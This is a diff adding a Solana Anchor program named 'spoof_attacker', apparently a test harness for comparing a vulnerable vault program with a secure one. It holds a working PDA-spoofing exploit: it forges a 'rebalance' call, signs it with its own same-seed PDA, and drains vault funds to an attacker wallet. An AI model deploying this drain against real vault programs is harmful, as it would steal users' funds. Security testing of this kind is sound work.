@@ -0,0 +1,60 @@
+use anchor_lang::prelude::*;
+use anchor_lang::solana_program::{
+    hash::hash,
+    instruction::{AccountMeta, Instruction},
+    program::invoke_signed,
+};
+
+declare_id!("SpoofAttacker111111111111111111111111111111");
+
+/// Used by the tests against both vault programs. Signs with its OWN PDA -
+/// same seed string the real strategy uses, different program id
+#[program]
+pub mod spoof_attacker {
+    use super::*;
+
+    pub fn drain(ctx: Context<Drain>, amount: u64) -> Result<()> {
+        // Anchor instruction data: sha256("global:rebalance")[..8] ++ amount
+        let mut data = hash(b"global:rebalance").to_bytes()[..8].to_vec();
+        data.extend_from_slice(&amount.to_le_bytes());
+
+        let ix = Instruction {
+            program_id: ctx.accounts.vault_program.key(),
+            accounts: vec![
+                AccountMeta::new(ctx.accounts.vault.key(), false),
+                AccountMeta::new_readonly(ctx.accounts.attacker_authority.key(), true),
+                AccountMeta::new(ctx.accounts.destination.key(), false),
+            ],
+            data,
+        };
+
+        //  A perfectly valid signature - for this program's PDA
+        invoke_signed(
+            &ix,
+            &[
+                ctx.accounts.vault.to_account_info(),
+                ctx.accounts.attacker_authority.to_account_info(),
+                ctx.accounts.destination.to_account_info(),
+            ],
+            &[&[b"strategy", &[ctx.bumps.attacker_authority]]],
+        )?;
+
+        msg!("Called rebalance as {}", ctx.accounts.attacker_authority.key());
+        Ok(())
+    }
+}
+
+#[derive(Accounts)]
+pub struct Drain<'info> {
+    /// CHECK: The victim program's vault
+    #[account(mut)]
+    pub vault: AccountInfo<'info>,
+    /// CHECK: This program's PDA; signs via invoke_signed
+    #[account(seeds = [b"strategy"], bump)]
+    pub attacker_authority: AccountInfo<'info>,
+    /// CHECK: Attacker's wallet
+    #[account(mut)]
+    pub destination: AccountInfo<'info>,
+    /// CHECK: Vulnerable or secure vault program
+    pub vault_program: AccountInfo<'info>,
+}